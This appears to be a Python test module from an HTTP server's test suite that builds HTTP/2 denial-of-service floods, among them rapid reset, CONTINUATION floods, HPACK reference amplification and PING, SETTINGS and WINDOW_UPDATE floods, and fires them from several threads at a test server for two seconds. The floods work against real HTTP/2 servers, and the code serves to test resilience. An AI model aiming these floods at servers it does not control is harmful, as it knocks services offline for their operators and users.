"""Floods of HTTP/2 frames on the HTTP port that belong to no request, or to requests that cost much and say little."""

from __future__ import annotations

import itertools
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import ExitStack, suppress
from functools import partial

from hpack import Encoder

from tests.attacks import Attack
from tests.support.servers import Server

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CHUNK_BYTES = 64 * 1024
ATTACK_SECONDS = 2.0
CONNECTIONS = 4
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
UNKNOWN = 77
END_STREAM, END_HEADERS = 0x1, 0x4
REQUEST = [(":method", "GET"), (":path", "/"), (":scheme", "http"), (":authority", "x")]
ACCEPT_ENCODING = b"\x90"  # HPACK's static table has the whole field: one byte is worth 60 of the header list
FIELDS = 500

Frames = Iterator[bytes]


def make_frame(kind: int, stream_id: int = 0, payload: bytes = b"", flags: int = 0) -> bytes:
    """Return one HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream_id.to_bytes(4, "big") + payload


def encode_request() -> bytes:
    """Return a header block that does not depend on those before it."""
    encoder = Encoder()
    encoder.header_table_size = 0
    return bytes(encoder.encode(REQUEST))


def repeat(frame: bytes) -> Frames:
    """Yield the same frame without end."""
    return itertools.repeat(frame)


def _reset_rapidly() -> Frames:
    block = encode_request()
    for stream_id in itertools.count(1, 2):
        yield make_frame(HEADERS, stream_id, block, END_HEADERS | END_STREAM)
        yield make_frame(RST_STREAM, stream_id, bytes([0, 0, 0, 8]))


def _send_empty_data() -> Frames:
    yield make_frame(HEADERS, 1, encode_request(), END_HEADERS)
    yield from repeat(make_frame(DATA, 1))


def _continue_headers() -> Frames:
    block = encode_request()
    for stream_id in itertools.count(1, 2):
        yield make_frame(HEADERS, stream_id, block, END_STREAM)
        yield make_frame(CONTINUATION, stream_id) * 60
        yield make_frame(CONTINUATION, stream_id, flags=END_HEADERS)


def _refer_to_fields() -> Frames:
    block = encode_request() + ACCEPT_ENCODING * FIELDS
    for stream_id in itertools.count(1, 2):
        yield make_frame(HEADERS, stream_id, block, END_HEADERS | END_STREAM)


FLOODS: dict[str, Callable[[], Frames]] = {
    "PRIORITY": partial(repeat, make_frame(PRIORITY, 5, bytes([0, 0, 0, 0, 15]))),
    "SETTINGS": partial(repeat, make_frame(SETTINGS)),
    "PING": partial(repeat, make_frame(PING, payload=bytes(8))),
    "WINDOW_UPDATE": partial(repeat, make_frame(WINDOW_UPDATE, payload=bytes([0, 0, 0, 1]))),
    "unknown frames": partial(repeat, make_frame(UNKNOWN)),
    "rapid resets": _reset_rapidly,
    "empty DATA": _send_empty_data,
    "CONTINUATION": _continue_headers,
    "HPACK references": _refer_to_fields,
}
"""The frames that one connection sends after the preface, by the name of the attack."""


def flood(server: Server, make_frames: Callable[[], Frames], connections: int = CONNECTIONS) -> None:
    """Send frames on several connections at once for two seconds, as fast as the server reads them.

    A connection that the server closes is replaced by another. No response is read.
    """
    end_at = time.monotonic() + ATTACK_SECONDS

    def send() -> None:
        while time.monotonic() < end_at:
            with suppress(OSError), server.connect() as connection:
                connection.settimeout(ATTACK_SECONDS)
                frames = make_frames()
                connection.sendall(PREFACE + make_frame(SETTINGS))
                while time.monotonic() < end_at:
                    connection.sendall(take_chunk(frames))

    threads = [threading.Thread(target=send) for _ in range(connections)]
    with ExitStack() as stack:
        for thread in threads:
            thread.start()
            stack.callback(thread.join)


def take_chunk(frames: Frames) -> bytes:
    """Return the next frames, about 64 KiB of them."""
    chunk = bytearray()
    while len(chunk) < CHUNK_BYTES:
        chunk += next(frames)
    return bytes(chunk)


def _attack(name: str) -> Attack:
    return Attack(partial(flood, make_frames=FLOODS[name], connections=1 if name == "PRIORITY" else CONNECTIONS))


ATTACKS = {f"a flood of {name}": _attack(name) for name in FLOODS}
